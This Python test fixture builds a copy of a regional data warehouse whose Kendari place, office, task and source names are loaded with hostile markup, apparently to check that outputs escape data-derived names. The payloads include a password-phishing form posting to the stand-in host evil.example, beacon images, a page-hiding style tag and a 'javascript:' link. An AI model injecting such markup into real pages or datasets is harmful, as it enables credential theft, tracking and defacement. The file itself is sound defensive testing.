"""A warehouse whose data-derived names carry hostile markup (issue 17), loaded through the CLI as an analyst
would: an RBRA, an OPD, a task, a recap source and the kab/kota and kecamatan names (a `wilayah` file that
renames 74.71 and 74.71.01; a loaded code replaces the reference row)."""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import openpyxl

from tests.conftest import GEO, run_etl

EVIL = "evil.example"
FORM = f"<form action=http://{EVIL}/x><input type=password name=p></form>"
IMG = f"<img src=http://{EVIL}/i.png>"
STYLE = "<style>body{display:none}</style>"
MD_IMG = f"![x](http://{EVIL}/m.png)"
MD_LINK = "[klik](javascript:alert(1)) **tebal**"
PAYLOAD = f"{FORM}{IMG}{STYLE}{MD_IMG} {MD_LINK}"


def hostile(label: str) -> str:
    """A realistic name with the payload after it."""
    return f"{label} {PAYLOAD}"


KOTA = hostile("Kota Kendari")
KECAMATAN = hostile("Mandonga")
RBRA = hostile("Taman")
OPD = hostile("Dinas")
TASK = hostile("Tugas")
SOURCE = hostile("Sumber")


def _xlsx(path: Path, head: list, rows: list) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(head)
    for r in rows:
        ws.append(r)
    wb.save(path)
    return path


def build(sample_data_dir: Path, tmp: Path, boundaries: bool = False) -> Path:
    """A copy of the sample warehouse with the hostile names loaded (names by code last: later files match
    kecamatan by name). With `boundaries`, Kendari's real boundaries (data/publik/batas) loaded again (the map
    is then a choropleth with coverage and siting proposals)."""
    d = tmp / "data"
    shutil.copytree(sample_data_dir, d)
    if boundaries:
        run_etl(
            d,
            "load",
            "batas",
            str(GEO / "kendari_kecamatan.geojson"),
            str(GEO / "kendari_kelurahan.geojson"),
        )
    inputs = tmp / "masukan"
    inputs.mkdir()
    run_etl(
        d,
        "load",
        "rbra",
        str(
            _xlsx(
                inputs / "rbra.xlsx",
                ["Nama", "Kecamatan", "Kelurahan", "Latitude", "Longitude", "Status", "Tahun"],
                [[RBRA, "Mandonga", "Korumba", -3.9712, 122.5105, "RBRA", 2020]],
            )
        ),
    )
    run_etl(
        d,
        "load",
        "indikator",
        str(_xlsx(inputs / "indikator.xlsx", ["Tahun", "Nomor", "Nilai", "OPD Pengampu"], [[2025, 10, 20, OPD]])),
    )
    run_etl(
        d,
        "load",
        "tindak_lanjut",
        str(
            _xlsx(
                inputs / "tindak_lanjut.xlsx",
                ["Tanggal Rapat", "Tugas", "Nomor Indikator", "OPD", "Tenggat", "Status"],
                [[dt.date(2025, 3, 12), TASK, 10, OPD, dt.date(2025, 4, 1), "Proses"]],
            )
        ),
    )
    run_etl(
        d,
        "load",
        "kasus_rekap",
        str(
            _xlsx(
                inputs / "rekap.xlsx",
                ["Tahun", "Bentuk Kekerasan", "Jumlah", "Sumber", "Satuan"],
                [[2024, "JUMLAH", 44, SOURCE, "kasus"]],
            )
        ),
    )
    run_etl(
        d,
        "load",
        "wilayah",
        str(
            _xlsx(
                inputs / "wilayah.xlsx",
                ["Kode", "Nama", "Lintang", "Bujur"],
                [
                    ["74", "Sulawesi Tenggara", -4.0, 122.0],
                    ["74.71", KOTA, -3.9985, 122.5430],
                    ["74.71.01", KECAMATAN, -3.94103, 122.50866],
                ],
            )
        ),
    )
    return d
